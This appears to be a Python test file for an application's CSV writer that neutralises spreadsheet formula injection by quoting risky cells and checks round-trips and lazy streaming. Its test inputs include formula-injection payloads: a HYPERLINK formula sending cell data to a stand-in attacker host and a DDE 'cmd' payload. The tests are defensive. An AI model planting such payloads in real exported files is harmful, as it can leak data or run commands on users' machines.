"""The one CSV writer: formulas written as text, read back as typed, numbers kept as numbers,
and the file streamed header first, row by row."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services import csvfile

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Any text, and text made mostly of the characters that matter here (quotes, formula starts).
TEXTS = st.one_of(st.text(), st.text(alphabet="'=+-@\t\r\n\"a1 ,"))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_text_that_starts_a_formula_gets_a_quote_and_comes_back_as_typed(text: str) -> None:
    cell = csvfile.safe_cell(text)
    assert cell == "'" + text
    assert csvfile.read_cell(cell) == text


@pytest.mark.parametrize(
    "text", ["", "Lamp out", "a = b", "'quoted", "'", "12", "-", "3 - 2", " =1"]
)
def test_other_text_is_written_as_it_is(text: str) -> None:
    if text == "-":
        assert csvfile.safe_cell(text) == "'-"  # a lone minus still starts a formula
        return
    assert csvfile.safe_cell(text) == text
    assert csvfile.read_cell(text) == text


def test_numbers_stay_numbers_and_none_and_booleans_are_plain() -> None:
    assert csvfile.safe_cell(-2) == -2
    assert csvfile.safe_cell(-2.5) == -2.5
    assert csvfile.safe_cell(0) == 0
    assert csvfile.safe_cell(None) == ""
    assert csvfile.safe_cell(True) == "true" and csvfile.safe_cell(False) == "false"
    line = csvfile.text(["n", "x", "ok"], [[-2, 65.8253, True]]).splitlines()[1]
    assert line == "-2,65.8253,true"  # a negative number is data: no quote in front


def test_text_that_already_starts_with_a_quote_survives_the_round_trip() -> None:
    """Someone typed the quote themselves: it is kept, not taken for ours on the way back."""
    for text in ["'=1+1", "''=1+1", "'-3", "'@x"]:
        cell = csvfile.safe_cell(text)
        assert not str(cell).startswith(FORMULA_STARTS)
        assert csvfile.read_cell(str(cell)) == text


@given(TEXTS)
def test_any_text_is_safe_and_reads_back_as_typed(text: str) -> None:
    cell = str(csvfile.safe_cell(text))
    assert not cell.startswith(FORMULA_STARTS)
    assert csvfile.read_cell(cell) == text


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=5))
def test_a_whole_file_reads_back_cell_for_cell(rows: list[list[str]]) -> None:
    written = csvfile.text(["a", "b"], rows)
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read[0] == ["a", "b"]
    assert [[csvfile.read_cell(c) for c in row] for row in read[1:]] == rows
    assert not any(c.startswith(FORMULA_STARTS) for row in read for c in row)


def test_stream_gives_the_header_first_then_one_line_per_row_in_order() -> None:
    rows = [{"id": 1, "name": "Lamp"}, {"id": 2, "name": "=bad"}, {"name": "no id"}]
    lines = list(csvfile.stream(["id", "name"], rows, header=["Number", "Name"]))
    assert lines == ["Number,Name\r\n", "1,Lamp\r\n", "2,'=bad\r\n", ",no id\r\n"]
    with_bom = list(csvfile.stream(["id"], [[1]], bom=True))
    assert with_bom == ["\ufeffid\r\n", "1\r\n"]  # the BOM once, before the header


def test_stream_reads_the_rows_only_as_it_writes_them() -> None:
    """Constant memory: a row is fetched when its line is asked for, not before."""
    fetched: list[int] = []

    def rows() -> Iterator[list[int]]:
        for n in range(1_000_000):
            fetched.append(n)
            yield [n]

    lines = csvfile.stream(["n"], rows())
    assert next(lines) == "n\r\n"
    assert fetched == []
    assert [next(lines), next(lines)] == ["0\r\n", "1\r\n"]
    assert fetched == [0, 1]
